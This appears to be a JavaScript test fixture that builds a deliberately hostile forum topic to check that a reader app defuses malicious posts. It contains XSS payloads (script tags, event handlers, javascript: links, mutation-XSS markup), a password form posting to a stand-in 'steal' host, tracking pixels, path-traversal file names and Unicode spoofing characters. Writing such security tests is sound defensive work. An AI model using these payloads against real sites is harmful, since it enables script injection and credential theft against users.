import { draftPost } from './drafts.mjs';

/** What a malicious author or forum may send. Everything here must come to nothing in the product. */

/** @typedef {import('./forum.mjs').Forum} Forum */
/** @typedef {import('./forum.mjs').ForumPost} ForumPost */

const KEY = 'hostile';

/** @returns {import('./drafts.mjs').TopicDraft} */
export function hostileDraft() {
  const words = [
    'opening',
    'scripts',
    'characters',
    'names',
    'cycle one',
    'cycle two',
    'liar',
    'tracker',
    'nesting',
    'huge',
  ];
  const posts = words.map((word, n) => draftPost(n % 2 ? 'spamalot' : 'karl', `Placeholder for ${word}.`));
  return {
    key: KEY,
    title: '<script>alert(1)</script> A "hostile" & odd topic \u202etxt.exe',
    category: 'meta',
    tags: ['hostile'],
    posts,
  };
}

const SCRIPTS = `<p>Before <script>globalThis.__heddlePwned = 'script'; document.title = 'pwned';</script> after.</p>
<p><img src="x" onerror="globalThis.__heddlePwned = 'onerror'" alt="broken"><svg onload="globalThis.__heddlePwned = 'svg'"><script>globalThis.__heddlePwned = 'svg script'</script></svg></p>
<p><a href="javascript:globalThis.__heddlePwned='link'">a link</a> <a href=" java&#10;script:alert(1)">another</a> <a href="data:text/html,<script>alert(1)</script>">a third</a> <a href="vbscript:msgbox(1)">a fourth</a></p>
<iframe src="https://tracker.example.net/frame" srcdoc="<script>parent.__heddlePwned='frame'</script>"></iframe>
<style>body { display: none } @import url(https://tracker.example.net/style.css);</style>
<base href="https://tracker.example.net/"><meta http-equiv="refresh" content="0;url=https://tracker.example.net/">
<form action="https://tracker.example.net/steal"><input name="password" autofocus onfocus="globalThis.__heddlePwned='focus'"><button>Sign in</button></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>
<p>[markdown](javascript:alert(1)) \`code\` </textarea><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></p>`;

const CHARACTERS = `<p>Right to left: \u202egnp.exe\u202c, isolates \u2066one\u2069 \u2067two, zero\u200bwidth\u200djoin\ufeffer, tag \u{e0041}\u{e0042}, soft\u00adhyphen.</p>
<p>Control: \u0001\u0002\u0008\u000b\u000c\u001b[31mred\u001b[0m\u007f\u0085, separators \u2028 and \u2029, a lone half \ud83d, a non-character \uffff, many marks Z\u0335\u0322\u0341\u035e\u0321.</p>
<p>&#0; &#x1F600; &#xD800; &#99999999; &amp;lt;script&amp;gt; &lt;script&gt;not one&lt;/script&gt; ]]&gt; &lt;!--</p>`;

/**
 * @param {Forum} forum
 * @param {number} hugeBytes
 */
export function spoil(forum, hugeBytes) {
  const topic = forum.topics.find((one) => one.key === KEY);
  if (!topic) return;
  const topicId = String(topic.id);
  /** @param {number} number */
  const post = (number) => /** @type {ForumPost} */ (topic.posts[number - 1]);
  post(2).cooked = SCRIPTS;
  post(3).cooked = CHARACTERS;
  post(4).cooked = ['../../evil.png', '..\\..\\evil.exe', '/etc/passwd', 'CON.png', 'a\u0000b.png']
    .map((name, n) => {
      const image = forum.images.image(`here/${n % 2 ? 'small' : 'big'}/${name}`);
      post(4).images.push(image);
      const text = name.replace(/\0/g, '&#0;');
      return `<p><div class="lightbox-wrapper"><a class="lightbox" href="${image.src}" title="${text}" download="${text}"><img src="${image.thumb?.src ?? image.src}" alt="${text}" width="300" height="200"><div class="meta"><span class="filename">${text}</span></div></a></div></p>`;
    })
    .join('\n');
  post(5).replyTo = 6;
  post(6).replyTo = 5;
  post(7).replyTo = 7;
  post(7).cooked =
    ['1000000000', '-1', '0', 'abc', '7', '1.5', '__proto__', '2'].map((number) => quote(number, topicId)).join('\n') +
    '<p>I answer everybody.</p>';
  // Only the last quote names a post that is there; the one of the post itself is no edge.
  post(7).quotes = [{ topicId: topic.id, postNumber: 2 }];
  post(8).cooked =
    `<p>Just a picture <img src="https://tracker.example.net/pixel.gif?reader=1" width="1" height="1" alt=""> and a <span style="background:url(https://tracker.example.net/background.png)">word</span>.</p><p><img src="//tracker.example.net/big.png" width="400" height="300" srcset="https://tracker.example.net/2x.png 2x" alt="tracker"><video poster="https://tracker.example.net/poster.png" src="https://tracker.example.net/v.mp4" autoplay></video><link rel="stylesheet" href="https://tracker.example.net/x.css"></p>`;
  post(8).replyTo = 99_999;
  const depth = 20_000;
  post(9).cooked = `${'<blockquote>'.repeat(depth)}<p>deep</p>${'</blockquote>'.repeat(depth)}`;
  const unit = '<p>A long line of text that says nothing at all, <b>again</b> and &amp; again. <a href="#">x</a></p>\n';
  post(10).cooked = unit.repeat(Math.ceil(hugeBytes / unit.length));
  for (const one of topic.posts) one.raw = one.number > 8 ? 'too large' : one.cooked;
}

/**
 * @param {string} number
 * @param {string} topicId
 */
function quote(number, topicId) {
  return `<aside class="quote no-group" data-username="karl" data-post="${number}" data-topic="${topicId}"><div class="title"><div class="quote-controls"></div> karl:</div><blockquote><p>so they say</p></blockquote></aside>`;
}

/**
 * Ids that the stream of the hostile topic names though no post has them.
 * @param {import('./forum.mjs').ForumTopic} topic
 */
export function ghostIds(topic) {
  return topic.key === KEY ? [987_654_321, 987_654_322] : [];
}
